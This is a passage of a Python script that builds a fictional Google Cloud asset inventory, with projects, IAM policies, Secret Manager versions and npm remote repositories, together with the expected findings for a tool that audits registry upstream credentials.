     ["SECRET_REFERENCE_INVALID"], ["SERVICE_AGENT_NO_ACCESS", "SECRET_PUBLIC"], "Bob's experiments, EU"),
    # the legacy monolith, directly under the organization
    ("acme-legacy-monolith", "us-central1", "npmjs-proxy", NPMJS, "legacy-ci",
     "projects/acme-legacy-monolith/secrets/npm-auth/versions/latest",
     ["SECRET_VERSION_FLOATING", "SECRET_VERSION_DISABLED"],
     ["SECRET_VERSION_NOT_FOUND", "SECRET_VERSION_SUPERSEDED", "SERVICE_AGENT_NO_ACCESS"], "Monolith builds"),
    ("acme-legacy-monolith", "us-central1", "npm-legacy-registry", NPMJS, "legacy-ci",
     f"{CS}/npm-token-legacy/versions/2", ["SECRET_NOT_FOUND"],
     ["SERVICE_AGENT_NO_ACCESS", "SECRET_VERSION_NOT_FOUND", "SECRET_VERSION_FLOATING"], "Monolith release builds"),
    ("acme-legacy-monolith", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", f"{CS}/npm-token/versions/7",
     ["SECRET_VERSION_NOT_FOUND"], ["SECRET_NOT_FOUND", "SERVICE_AGENT_NO_ACCESS"], "Monolith builds, EU"),
    ("acme-legacy-monolith", "us-central1", "npm-secret-only", NPMJS, None, NPM_TOKEN,
     ["CREDENTIALS_INCOMPLETE"], ["CREDENTIALS_MISSING"], "Token set, username forgotten"),
    ("acme-legacy-monolith", "us-central1", "npm-common-upstream", YARN, None, None,
     ["CREDENTIALS_MISSING"], [], "Yarn registry mirror"),
    ("acme-legacy-monolith", "asia-east1", "npmjs-monolith", NPMJS, "legacy-ci",
     "projects/acme-legacy-monolith/secrets/npm-auth/versions/1", [],
     ["SECRET_VERSION_SUPERSEDED", "SECRET_VERSION_DISABLED"], "Monolith builds, APAC (pinned to the working token)"),
]

def remote(source, username=None, reference=None, description="upstream"):
    """A remoteRepositoryConfig; credentials hold only the fields that are set."""
    config = {"description": description, **source}
    credentials = {k: v for k, v in (("username", username), ("passwordSecretVersion", reference)) if v is not None}
    if credentials:
        config["upstreamCredentials"] = {"usernamePasswordCredentials": credentials}
    return {"remoteRepositoryConfig": config}


def virtual(project, location, *upstreams):
    return {"virtualRepositoryConfig": {"upstreamPolicies": [
        {"id": r, "repository": f"projects/{project}/locations/{location}/repositories/{r}", "priority": 100 - 10 * i}
        for i, r in enumerate(upstreams)]}}


# Repositories that must not be audited by default: (project, location, repository, format, mode, config, desc).
OTHER_REPOSITORIES = [
    ("acme-artifacts-hub", "us-central1", "npm-internal", "NPM", "STANDARD_REPOSITORY", {}, "@acme packages we publish"),
    ("acme-artifacts-hub", "us-central1", "npm-all", "NPM", "VIRTUAL_REPOSITORY",
     virtual("acme-artifacts-hub", "us-central1", "npm-internal", "github-acme", "verdaccio-internal", "npmjs-proxy"),
     "One npm endpoint for everything"),
    ("acme-artifacts-hub", "europe-west1", "npm-all", "NPM", "VIRTUAL_REPOSITORY",
     virtual("acme-artifacts-hub", "europe-west1", "npmjs-proxy"), "One npm endpoint, EU"),
    ("acme-artifacts-hub", "us-central1", "dockerhub", "DOCKER", "REMOTE_REPOSITORY",
     remote({"dockerRepository": {"publicRepository": "DOCKER_HUB"}}, "acmebuild",
            f"{CS}/dockerhub-token/versions/1", "Docker Hub (agent not granted: audited only with --formats docker)"),
     "Docker Hub mirror"),
    ("acme-artifacts-hub", "us-central1", "maven-central", "MAVEN", "REMOTE_REPOSITORY",
     remote({"mavenRepository": {"publicRepository": "MAVEN_CENTRAL"}}), "Maven Central mirror"),
    ("acme-artifacts-hub", "us-central1", "pypi", "PYTHON", "REMOTE_REPOSITORY",
     remote({"pythonRepository": {"publicRepository": "PYPI"}}, "__token__", f"{CS}/pypi-token/versions/1"),
     "PyPI mirror (pinned to a disabled version: audited only with --formats python)"),
    ("acme-ci-runners", "us-central1", "ci-images", "DOCKER", "STANDARD_REPOSITORY", {}, "CI runner images"),
    ("acme-web-prod", "us-central1", "internal-packages", "NPM", "STANDARD_REPOSITORY", {}, "Storefront packages"),
    ("acme-web-prod", "us-central1", "npm", "NPM", "VIRTUAL_REPOSITORY",
     virtual("acme-web-prod", "us-central1", "internal-packages", "github-acme", "npmjs-proxy"), "Storefront npm"),
    ("acme-mobile-prod", "us-central1", "gradle-plugins", "MAVEN", "REMOTE_REPOSITORY",
     remote({"mavenRepository": {"customRepository": {"uri": "https://plugins.gradle.org/m2/"}}}), "Gradle plugins"),
    ("acme-data-ml", "us-central1", "pypi-proxy", "PYTHON", "REMOTE_REPOSITORY",
     remote({"pythonRepository": {"publicRepository": "PYPI"}}), "PyPI for notebooks"),
    ("acme-data-ml", "us-central1", "ml-images", "DOCKER", "STANDARD_REPOSITORY", {}, "Training images"),
    ("acme-legacy-monolith", "us-central1", "artifactory-maven", "MAVEN", "REMOTE_REPOSITORY",
     remote({"commonRepository": {"uri": "https://acme.jfrog.io/artifactory/maven-remote"}}, "legacy-ci",
            "projects/acme-legacy-monolith/secrets/npm-auth/versions/9"), "Artifactory Maven (broken, not audited)"),
    ("acme-legacy-monolith", "us-central1", "debian", "APT", "REMOTE_REPOSITORY",
     remote({"aptRepository": {"publicRepository": {"repositoryBase": "DEBIAN", "repositoryPath": "debian/dists/bookworm"}}}),
     "Debian packages"),
]

HOSTS = {"NPM": "npm", "DOCKER": "docker", "MAVEN": "maven", "PYTHON": "python", "APT": "apt"}


# ---------------------------------------------------------------------------------------------------------------
# Asset lines, in the field cases' shapes.
def ancestors_of(parent):
    """Ancestors above a resource whose parent is `parent` (folders/F or organizations/O), nearest first."""
    chain = []
    while parent.startswith("folders/"):
        chain.append(parent)
        parent = FOLDERS[parent.split("/")[1]][1]
    return chain + [parent]


def project_ancestors(project_id):
    return [f"projects/{num(project_id)}"] + ancestors_of(PROJECTS[project_id][1])


def iam_line(name, asset_type, bindings, ancestors):
    out = []
    for role, members, condition in bindings:
        binding = {"role": role, "members": members}
        if condition:
            binding["condition"] = condition
        out.append(binding)
    return {"name": name, "assetType": asset_type, "iamPolicy": {"version": 3, "bindings": out}, "ancestors": ancestors}


def hierarchy_lines():
    org_name = f"{CRM}organizations/{ORG}"
    org_type = "cloudresourcemanager.googleapis.com/Organization"
    yield {"name": org_name, "assetType": org_type,
           "resource": {"version": "v1", "data": {"name": f"organizations/{ORG}", "displayName": DOMAIN,
                                                  "lifecycleState": "ACTIVE"}},
           "ancestors": [f"organizations/{ORG}"]}
    yield iam_line(org_name, org_type, ORG_POLICY, [f"organizations/{ORG}"])
    for role, (title, description, permissions) in ROLES.items():
        yield {"name": f"//iam.googleapis.com/{role}", "assetType": "iam.googleapis.com/Role",
               "resource": {"version": "v1", "data": {"name": role, "title": title, "description": description,
                                                      "includedPermissions": permissions, "stage": "GA"},
                            "parent": org_name},
               "ancestors": [f"organizations/{ORG}"]}
    folder_type = "cloudresourcemanager.googleapis.com/Folder"
    for folder, (display, parent) in FOLDERS.items():
        name = f"{CRM}folders/{folder}"
        ancestors = [f"folders/{folder}"] + ancestors_of(parent)
        yield {"name": name, "assetType": folder_type,
               "resource": {"version": "v1", "data": {"name": f"folders/{folder}", "displayName": display,
                                                      "parent": parent, "lifecycleState": "ACTIVE"},
                            "parent": CRM + parent},
               "ancestors": ancestors}
        if folder in FOLDER_POLICIES:
            yield iam_line(name, folder_type, FOLDER_POLICIES[folder], ancestors)
    project_type = "cloudresourcemanager.googleapis.com/Project"
    for project, (number, parent) in PROJECTS.items():
        name = f"{CRM}projects/{number}"
        kind, parent_id = parent.split("/")
        yield {"name": name, "assetType": project_type,
               "resource": {"version": "v1", "data": {"projectNumber": number, "projectId": project, "name": project,
                                                      "lifecycleState": "ACTIVE",
                                                      "parent": {"type": kind[:-1], "id": parent_id}},
                            "parent": CRM + parent},
               "ancestors": project_ancestors(project)}
        if project in PROJECT_POLICIES:
            yield iam_line(name, project_type, PROJECT_POLICIES[project], project_ancestors(project))


def secret_lines():
    for (project, secret_id), s in SECRETS.items():
        secret = f"projects/{num(project)}/secrets/{secret_id}"
        ancestors = project_ancestors(project)
        data = {"name": secret, "replication": s["replication"], "createTime": s["createTime"]}
        for key in ("labels", "expireTime", "versionAliases", "versionDestroyTtl"):
            if key in s:
                data[key] = s[key]
        yield {"name": SM + secret, "assetType": "secretmanager.googleapis.com/Secret",
               "resource": {"version": "v1", "data": data, "parent": f"{CRM}projects/{num(project)}"},
               "ancestors": ancestors}
        if s["policy"]:
            yield iam_line(SM + secret, "secretmanager.googleapis.com/Secret", s["policy"], ancestors)
        for n, state, created, extra in s["versions"]:
            version = f"{secret}/versions/{n}"
            yield {"name": SM + version, "assetType": "secretmanager.googleapis.com/SecretVersion",
                   "resource": {"version": "v1", "data": {"name": version, "state": state, "createTime": created,
                                                          **extra},
                                "parent": SM + secret},
                   "ancestors": ancestors}


def stamp(index):
    """A believable, deterministic create/update time pair for the index-th repository."""
    month = 1 + index % 12
    year = 2025 if index % 3 else 2026
    if year == 2026 and month > 10:
        month -= 6
    created = f"{year}-{month:02d}-{1 + (index * 7) % 27:02d}T{8 + index % 9:02d}:{(index * 13) % 60:02d}:00Z"
    updated = f"2026-{1 + index % 10:02d}-{1 + (index * 5) % 27:02d}T10:00:00Z"
    return created, max(created, updated)


def labels_of(project):
    team, env = project.split("-")[1], project.split("-")[-1]
    return {"team": team, "env": env if env in ("prod", "staging", "dev") else "shared", "managed-by": "terraform"}


def repository_line(index, project, location, repo_id, fmt, mode, config, description):
    name = f"projects/{project}/locations/{location}/repositories/{repo_id}"
    created, updated = stamp(index)
    data = {"name": name, "format": fmt, "mode": mode, "description": description, "labels": labels_of(project),
            "createTime": created, "updateTime": updated, "sizeBytes": str(1048576 * (3 + (index * 37) % 900)),
            "registryUri": f"{location}-{HOSTS[fmt]}.pkg.dev/{project}/{repo_id}", **config}
    return {"name": AR + name, "assetType": "artifactregistry.googleapis.com/Repository",
            "resource": {"version": "v1", "data": data, "parent": f"{CRM}projects/{num(project)}",
                         "location": location},
            "ancestors": project_ancestors(project)}


def repository_lines():
    for i, (project, location, repo_id, upstream, username, reference, _, _, description) in enumerate(NPM_REMOTES):
        yield repository_line(i, project, location, repo_id, "NPM", "REMOTE_REPOSITORY",
                              remote(upstream, username, reference), description)
    for i, (project, location, repo_id, fmt, mode, config, description) in enumerate(OTHER_REPOSITORIES):
        yield repository_line(100 + i, project, location, repo_id, fmt, mode, config, description)


def expectations():
    rows, counts = [], {"AUDITED": 0, "CHECK_ERROR": 0}
    for project, location, repo_id, _, _, _, findings, guards, _ in NPM_REMOTES:
        repo = f"projects/{project}/locations/{location}/repositories/{repo_id}"
        rows.append((repo, "AUDITED", "present"))
        counts["AUDITED"] += 1
        for rule in findings:
            rows.append((repo, rule, "present"))
            counts[rule] = counts.get(rule, 0) + 1
        for rule in guards:
            assert rule not in findings, (repo, rule)
            rows.append((repo, rule, "absent"))
    for project, location, repo_id, *_ in OTHER_REPOSITORIES:
        rows.append((f"projects/{project}/locations/{location}/repositories/{repo_id}", "AUDITED", "absent"))
    return rows, counts


def main():
    lines = [*hierarchy_lines(), *secret_lines(), *repository_lines()]
    with open(os.path.join(APP, "demo-fleet.ndjson"), "w", newline="\n") as f:
        for line in lines:
            f.write(json.dumps(line, separators=(",", ":"), ensure_ascii=False) + "\n")
    rows, counts = expectations()
    with open(os.path.join(APP, "demo", "expected.csv"), "w", newline="") as f:
        out = csv.writer(f, lineterminator="\n")
        out.writerow(["repository", "rule", "expect"])
        out.writerows(rows)
    with open(os.path.join(APP, "demo", "expected-counts.csv"), "w", newline="") as f:
        out = csv.writer(f, lineterminator="\n")
        out.writerow(["rule", "count"])
        out.writerows(sorted(counts.items()))
    print(f"{len(lines)} lines; {len(NPM_REMOTES)} npm remotes, {len(OTHER_REPOSITORIES)} other repositories")


if __name__ == "__main__":
    main()
